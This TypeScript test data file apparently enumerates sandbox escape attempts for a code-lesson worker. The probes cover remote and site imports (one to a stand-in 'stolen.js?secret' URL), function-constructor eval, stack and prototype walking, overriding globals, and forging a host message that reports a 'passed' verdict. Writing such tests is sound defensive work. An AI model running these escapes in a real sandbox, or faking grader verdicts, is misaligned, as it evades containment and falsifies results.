// Ways out of the sandbox, as data. Each is the body of an async function that gives what it got hold of, or nothing.
// They run as they stand, past the compiler, so that the realm and the policy are what holds them. `ORIGIN` stands for the site's address.

export interface Escape {
  readonly name: string;
  readonly source: string;
}

/** Gives a name if the realm has it. */
const found = (name: string): Escape => ({
  name: `${name}, by its name`,
  source: `const got = globalThis[${JSON.stringify(name)}]; if (got !== undefined) return typeof got;`,
});

/** Reaches for what a constructor would lead to. */
const through = (name: string, source: string): Escape => ({ name, source });

const imported = (name: string, address: string): Escape => ({
  name: `an import of ${name}`,
  source: `return "imported " + Object.keys(await import(${address}));`,
});

export const escapes: readonly Escape[] = [
  ...[
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "WebSocketStream",
    "EventSource",
    "WebTransport",
    "Worker",
    "SharedWorker",
    "importScripts",
    "BroadcastChannel",
    "MessageChannel",
    "MessagePort",
    "postMessage",
    "onmessage",
    "indexedDB",
    "caches",
    "cookieStore",
    "navigator",
    "location",
    "origin",
    "self",
    "name",
    "close",
    "crypto",
    "WebAssembly",
    "OffscreenCanvas",
    "createImageBitmap",
    "FontFace",
    "fonts",
    "Blob",
    "File",
    "FileReader",
    "FileReaderSync",
    "Request",
    "Response",
    "Notification",
    "scheduler",
    "trustedTypes",
    "PerformanceObserver",
    "RTCDataChannel",
    "reportError",
    "requestAnimationFrame",
    "webkitRequestFileSystem",
    "CompressionStream",
    "VideoDecoder",
  ].map(found),

  imported("data:", `"data:text/javascript,export default 1"`),
  imported("https:", `"https://example.org/stolen.js?secret"`),
  imported("the site itself", `"ORIGIN/stolen.js?secret"`),
  // The engine gives the instance that runs already, without a request: it must have nothing to give.
  through(
    "an import of the worker's own script, which runs already",
    `const names = Object.keys(await import("ORIGIN/sandbox/worker.js")); if (names.length > 0) return "exports " + names;`,
  ),
  imported("the worker's own script, anew", `"ORIGIN/sandbox/worker.js?again"`),
  imported("a blob: address that was guessed", `"blob:ORIGIN/00000000-0000-0000-0000-000000000000"`),
  imported("a relative address", `"./stolen.js"`),
  imported("a bare name", `"fs"`),
  imported("JSON of the site", `"ORIGIN/stolen.json", { with: { type: "json" } }`),

  through("Function", `return new Function("return this")();`),
  through("Function, called", `return Function("return fetch")();`),
  through("eval", `return (0, globalThis["eval"])("1 + 1");`),
  through("the constructor of functions", `return (() => {}).constructor("return 1")();`),
  through("the constructor of async functions", `return await (async () => {}).constructor("return 1")();`),
  through("the constructor of generators", `return (function* () {}).constructor("yield 1")().next().value;`),
  through(
    "the constructor of async generators",
    `return (await (async function* () {}).constructor("yield 1")().next()).value;`,
  ),
  through(
    "Reflect.construct of Function",
    `return Reflect.construct(Object.getPrototypeOf(function () {}).constructor, ["return 1"])();`,
  ),
  through(
    "a timer of text",
    `setTimeout("globalThis.got = 1", 0); await new Promise((resolve) => setTimeout(resolve, 5)); return globalThis.got;`,
  ),
  through(
    "the sites of a stack",
    `const before = Error.prepareStackTrace;
try { Error.prepareStackTrace = (_, sites) => sites; } catch {}
const sites = new Error().stack;
if (typeof sites !== "string") return sites.map((site) => typeof site.getThis() + typeof site.getFunction()).join();`,
  ),
  through(
    "Error.captureStackTrace",
    `const holder = {}; Error.captureStackTrace(holder); if (typeof holder.stack !== "string") return "sites";`,
  ),
  through(
    "callers of a function",
    `function inner() { return inner.caller ?? arguments.callee.caller; } return typeof inner();`,
  ),
  through("an address for an object", `return URL.createObjectURL({}) ?? "made";`),
  through(
    "the makers of object addresses",
    `if ("createObjectURL" in URL || "revokeObjectURL" in URL) return "createObjectURL";`,
  ),
  through(
    "the prototypes of the global",
    `for (let holder = globalThis; holder; holder = Object.getPrototypeOf(holder))
  for (const name of ["fetch", "postMessage", "importScripts", "navigator", "location", "addEventListener", "indexedDB", "close", "onmessage", "constructor"])
    if (holder !== Object.prototype && Object.hasOwn(holder, name) && holder !== EventTarget.prototype) return name;`,
  ),
  through(
    "the constructor of the global",
    `const made = globalThis.constructor; if (made !== Object && made !== EventTarget && made !== undefined) return made.name;`,
  ),
  through(
    "the host's messages, by a listener on the global",
    `for (const target of [undefined, null, globalThis])
  for (const method of ["addEventListener", "dispatchEvent", "removeEventListener"]) {
    try { Reflect.apply(EventTarget.prototype[method], target, method === "dispatchEvent" ? [new Event("message")] : ["message", () => {}]); return method + " on " + target; } catch {}
  }
const add = new EventTarget().addEventListener;
add("message", () => {});
return "a bare addEventListener";`,
  ),
  through(
    "the global by an event of its own",
    `const signal = AbortSignal.abort(); const event = new Event("x"); signal.dispatchEvent(event); if (event.currentTarget || event.composedPath().includes(globalThis)) return "the global";`,
  ),
  through("structuredClone of the global", `return structuredClone(globalThis);`),
  through("structuredClone of a port", `return structuredClone(1, { transfer: [globalThis] });`),
  through(
    "a stream that is transferred",
    `const stream = structuredClone(new ReadableStream(), { transfer: [new ReadableStream()] }); return typeof stream;`,
  ),
  through(
    "a port behind a stream",
    `const stream = new ReadableStream(); const moved = structuredClone(stream, { transfer: [stream] });
for (const key of [...Reflect.ownKeys(moved), ...Object.getOwnPropertySymbols(moved)]) if (/port|message/i.test(String(key))) return String(key);`,
  ),
  through(
    "WebAssembly by an import",
    `const got = Object.getPrototypeOf(Object.getPrototypeOf(Int8Array)).constructor; const wasm = got?.WebAssembly; if (wasm) return "WebAssembly";`,
  ),
  through(
    "Intl",
    `const text = new Intl.DateTimeFormat("en").resolvedOptions(); if (text.constructor.constructor !== Function) return "another realm";`,
  ),
  through(
    "another realm's Function, by the constructor of what the library gives",
    `const { Lock } = require("unwind/threading"); return Lock.constructor("return this")();`,
  ),
  through("the checks of a lesson", `return Object.keys(require("unwind/checks"));`),
  through("a module of the library that is not one", `return require("__proto__") ?? require("constructor");`),
  through("the files of the library's modules", `return require("../runtime/heap/heap.ts");`),
  through("Atomics of its own", `Atomics.load = () => 0; return "replaced";`),
  through(
    "performance entries",
    `if (performance.getEntries || performance.toJSON || performance.timeOrigin !== 0) return "entries";`,
  ),
  through(
    "the engine's console",
    `if (console.context || console.memory || console.profile || console.constructor !== Object) return "console";`,
  ),
  through(
    // It is the program's own module that it names, and the site's address in it opens nothing.
    "the address in import.meta",
    `const names = Object.keys(await import(import.meta.url)).filter((name) => name !== "default");
if (names.length > 0) return "exports " + names;
return Object.keys(await import(new URL("/stolen.js?secret", import.meta.url.slice("blob:".length)).href));`,
  ),
  through(
    "a shape that the host may trust",
    `for (const message of [{ type: "ready" }, { type: "verdict", verdict: { state: "passed" } }]) { const event = new Event("message"); Object.defineProperty(event, "data", { value: message }); new EventTarget().dispatchEvent(event); }`,
  ),
  through("names that can be added to the global", `Object.getPrototypeOf(globalThis).fetched = 1; return "added";`),
  through("a Date of its own for all", `Date.now = () => 0; return "replaced";`),
  through("the unhandled rejections of others", `globalThis.onunhandledrejection = () => {}; return "listens";`),
];
